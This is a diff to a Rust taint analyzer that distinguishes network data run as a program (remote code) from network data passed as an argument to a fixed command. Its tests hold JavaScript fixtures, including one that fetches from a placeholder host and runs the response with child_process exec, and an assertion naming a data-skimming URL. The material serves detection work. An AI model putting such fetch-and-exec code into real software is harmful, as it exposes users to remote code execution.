@@ -1635,11 +1635,12 @@ impl<'s> Analyzer<'s> {
             let t = data_taint;
             self.push_flow(t, "process", &name, command.clone(), call.span);
             let cmd_taint = args.first().map_or(0, |a| self.taint(a, 0));
-            if cmd_taint & (NETRESP | HTTPIN) != 0
-                && !args.first().is_some_and(|a| {
-                    matches!(a.get_inner_expression(), Expression::StringLiteral(_))
-                })
-            {
+            // Received data as the program itself is remote code; as an
+            // argument of a fixed program (`open "<url>"`) it is not.
+            let program_unknown = command
+                .as_deref()
+                .is_none_or(|c| c.trim_start().starts_with('*'));
+            if cmd_taint & (NETRESP | HTTPIN) != 0 && program_unknown {
                 let at = self.at(call.span);
                 let decoder = if cmd_taint & HTTPIN != 0 {
                     "request-input"
@@ -1964,14 +1965,24 @@ impl<'a> Visit<'a> for Analyzer<'_> {
                     if t != 0 {
                         *self.holder(name).taint.entry(name.to_owned()).or_default() |= t;
                     }
-                    if let (Some(prev), Some(add)) = (
+                    match (
                         self.string_of(name).cloned(),
                         self.eval(&it.right, false, 0),
-                    ) && prev.len() + add.len() <= MAX_FOLDED
-                    {
-                        self.holder(name)
-                            .strings
-                            .insert(name.to_owned(), prev + &add);
+                    ) {
+                        (Some(prev), Some(add)) if prev.len() + add.len() <= MAX_FOLDED => {
+                            self.holder(name)
+                                .strings
+                                .insert(name.to_owned(), prev + &add);
+                        }
+                        (Some(prev), _) => {
+                            // `d += chunk` with an unknown chunk: no longer a constant.
+                            let h = self.holder(name);
+                            h.strings.remove(name);
+                            if prev.len() < MAX_FOLDED {
+                                h.partials.insert(name.to_owned(), prev + "*");
+                            }
+                        }
+                        _ => {}
                     }
                 }
             }
@@ -2871,6 +2882,18 @@ mod tests {
             flow.destination.as_deref(),
             Some("https://skim.invalid/c?d=*")
         );
+    }
+
+    #[test]
+    fn received_data_as_an_argument_is_not_remote_code() {
+        let f = facts(
+            "const { exec } = require('child_process');\nfetch('https://x.invalid/a').then((r) => r.json()).then((d) => { exec(`open \"${d.url}\"`); });",
+        );
+        assert!(f.decode_run.is_empty(), "{:?}", f.decode_run);
+        let f = facts(
+            "const { exec } = require('child_process');\nfetch('https://x.invalid/a').then((r) => r.text()).then((d) => exec(d));",
+        );
+        assert_eq!(f.decode_run[0].decoder, "remote");
     }
 
     #[test]
